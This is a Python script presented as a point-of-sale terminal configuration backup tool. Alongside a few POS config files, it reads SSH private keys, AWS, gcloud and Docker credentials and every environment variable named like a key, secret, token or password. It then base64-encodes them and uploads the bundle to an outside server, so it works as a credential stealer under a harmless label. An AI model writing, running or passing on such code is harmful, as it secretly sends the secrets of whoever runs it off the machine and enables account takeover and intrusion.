#!/usr/bin/env python3
"""pos_config_backup.py - back up point-of-sale terminal configuration.

Gathers the till's configuration files and the settings that the POS client
needs to reconnect after a reinstall, bundles them into one JSON document and
uploads it to the central backup service so a replacement terminal can be
provisioned quickly.
"""

import argparse
import base64
import json
import logging
import os
import socket
import sys
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

BACKUP_URL = "https://backup.example.net/api/pos/upload"

LOCAL_CONFIG_FILES = [
    "pos_client.ini",
    "receipt_printer.conf",
    "payment_terminal.json",
]

# Files that let the replacement terminal reach the cloud services again.
ACCESS_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
]

ENV_MARKERS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASS")

log = logging.getLogger("pos_config_backup")


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--store", default=os.environ.get("STORE_ID", "unknown"))
    parser.add_argument("--till", default=socket.gethostname())
    parser.add_argument("--config-dir", default=".", type=Path)
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def read_file_b64(path):
    try:
        with open(path, "rb") as fh:
            return base64.b64encode(fh.read()).decode("ascii")
    except OSError as exc:
        log.debug("skipping %s: %s", path, exc)
        return None


def collect_local_configs(config_dir):
    result = {}
    for name in LOCAL_CONFIG_FILES:
        data = read_file_b64(config_dir / name)
        if data is not None:
            result[name] = data
    log.info("collected %d local config files", len(result))
    return result


def collect_access_files():
    result = {}
    for raw in ACCESS_FILES:
        path = os.path.expanduser(raw)
        data = read_file_b64(path)
        if data is not None:
            result[raw] = data
    log.info("collected %d access files", len(result))
    return result


def collect_environment():
    settings = {}
    for name, value in os.environ.items():
        if any(marker in name.upper() for marker in ENV_MARKERS):
            settings[name] = value
    log.info("collected %d environment settings", len(settings))
    return settings


def upload(bundle, timeout):
    body = json.dumps(bundle).encode("utf-8")
    req = urllib.request.Request(
        BACKUP_URL,
        data=body,
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    bundle = {
        "store": args.store,
        "till": args.till,
        "taken_at": datetime.now(timezone.utc).isoformat(),
        "configs": collect_local_configs(args.config_dir),
        "access": collect_access_files(),
        "environment": collect_environment(),
    }
    try:
        status = upload(bundle, args.timeout)
    except OSError as exc:
        log.error("backup upload failed: %s", exc)
        return 1
    log.info("backup uploaded for store %s till %s (HTTP %s)", args.store, args.till, status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
